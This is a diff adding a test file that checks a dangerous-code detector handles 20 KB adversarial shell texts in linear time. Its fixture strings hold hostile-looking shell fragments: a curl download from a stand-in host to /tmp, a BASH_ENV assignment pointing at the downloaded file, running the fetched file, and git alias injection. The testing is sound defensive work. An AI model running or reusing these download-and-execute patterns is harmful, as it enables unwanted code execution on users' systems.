@@ -1,0 +1,32 @@
+import { describe, expect, it } from 'vitest';
+import { dangerousCodeSignals } from '../../shared/analysis/dangerous-code.js';
+import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
+
+/**
+ * Attack pass 16 (shell side): the readings added to close it cost linear time on 20 KB texts built to make them retry —
+ * quoted strings left open over lines, pipelines of interpreters, here-documents never ended, `set` bundles, exports,
+ * `cd`s each followed by a relative path, git alias sections. Earlier passes found cubic and exponential expressions in
+ * this code (pass 9b, pass 14): each reading here is a loop over the shell's commands or an expression without adjacent
+ * quantifiers over the same characters.
+ */
+const UNITS: ReadonlyArray<[name: string, unit: string]> = [
+  ['quotes left open on each line', `python3 -c "https://x.example/i |\n`],
+  ['single quotes left open on each line', "echo 'a | b\n"],
+  ['a pipeline of interpreters', `python3 -c "print('https://x.example/i')" | `],
+  ['here-documents never ended', "python3 <<PY | tee f\nhttps://x.example/i\n"],
+  ['set bundles', 'set -eo -o -a +a -o allexport '],
+  ['exports and assignments', 'curl -o /tmp/e https://x.example/i\nexport PATH=: BASH_ENV\nprintf -v BASH_ENV %s /tmp/e\n: ${BASH_ENV:=/tmp/e}\n'],
+  ['cds each followed by a relative path', 'cd /tmp/x/y\nsh ../i*\n'],
+  ['git alias sections', '[alias]\n\tget = clone  \n  '],
+  ['git aliases of every kind', "git -c ALIAS.c.x=$'clone' c.x r GIT_CONFIG_KEY_1=alias.g GIT_CONFIG_VALUE_1='!git clone' "],
+];
+
+describe('pass 16: the shell side readings cost linear time', () => {
+  for (const [name, unit] of UNITS) {
+    it(`reads ${name}, repeated to 20 KB, in linear time`, { timeout: 120_000 }, () => {
+      const textOf = (size: number) => `curl -fsSL -o /tmp/x/i https://x.example/i\n${unit.repeat(Math.ceil(size / unit.length))}`;
+      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => dangerousCodeSignals(text));
+      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
+    });
+  }
+});
